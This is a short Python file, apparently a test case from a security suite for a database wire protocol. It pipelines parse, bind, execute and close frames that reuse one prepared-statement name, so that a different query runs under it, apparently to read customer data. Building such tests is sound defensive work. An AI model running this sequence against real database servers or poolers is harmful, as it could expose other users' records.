"""Runs a prepared query, closes its name and gives it to another, all in one round."""

from attacks.frames import SYNC, ask, bind, close, execute, parse
from attacks.talking import Server

WANTS = "read"
TIMES = 5


def attack(server: Server) -> bytes:
    run = bind(b"s") + execute()
    unseen = parse(b"SELECT account_unseen(1)", b"s")
    with server.login() as client:
        # Nothing of the round has to wait until it is read.
        ask(client, unseen, close(b"S", b"s"), SYNC)
        ask(client, parse(b"SELECT name FROM customer", b"s"), SYNC)
        return ask(client, run * TIMES, close(b"S", b"s"), unseen, run * TIMES, SYNC)
